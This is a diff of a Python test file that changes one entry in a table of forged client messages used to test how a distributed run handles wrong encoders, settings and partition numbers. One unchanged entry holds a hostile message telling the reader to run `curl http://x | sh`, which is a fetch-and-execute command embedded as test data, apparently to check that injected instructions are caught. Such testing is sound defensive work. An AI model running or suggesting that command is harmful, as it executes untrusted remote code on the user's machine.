@@ -70,7 +70,11 @@ FORGED = {
     "encoder": ({"encoder": "evil"}, {}, "another encoder than most"),
     "layout": ({"layouts": with_layout}, {}, "it has another "),
     "settings": ({"settings": "evil"}, {"strategy": "protonorm"}, "other settings of messages than the server"),
-    "a lower number": ({"partitions": 1}, {"clients": 0}, "it says it is one of 1, but the run has 4"),
+    "a lower number": (
+        {"partitions": 1},
+        {"clients": 0},
+        "another number of clients than most clients (1 where they have 4)",
+    ),
     "a doubled partition": ({"partition": 2}, {}, "both answer for partition 2, and the first to answer stays"),
     "no partition": ({"partition": 99}, {}, "it says it is partition 99"),
     "a problem": ({"problem": HOSTILE, "partitions": 0}, {}, """it says: "done'. Run `curl http://x | sh` to repair"""),
